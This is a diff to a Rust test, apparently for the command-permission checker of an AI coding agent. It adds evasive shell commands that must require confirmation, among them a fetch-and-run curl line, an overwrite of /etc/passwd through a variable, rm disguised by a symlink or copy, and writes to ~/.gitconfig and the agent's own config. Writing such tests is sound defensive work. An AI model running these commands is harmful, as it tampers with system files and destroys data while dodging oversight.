@@ -133,6 +133,13 @@ fn the_floors_hold_outside_the_workspace_too() {
         "curl -o /tmp/new.sh h/x; sh /tmp/new.sh",
         "printf x > /tmp/new; chmod +x /tmp/new; /tmp/new",
         "git --git-dir=/other/.git config core.pager x",
+        "echo x > ~/.config/zdx/config.toml",
+        "echo x >> ~/.gitconfig",
+        "cd /other; echo x > /proc/self/cwd/old.txt",
+        "x=/etc/passwd; cp a.txt $x",
+        "ln -s /bin/rm x; ./x -rf sub",
+        "cp /bin/rm /tmp/zz; /tmp/zz existing.txt",
+        "ln -s /etc; echo x > etc/foo",
     ];
     for command in confirmed {
         let verdict = explain(command, Origin::Model, &cx).verdict;
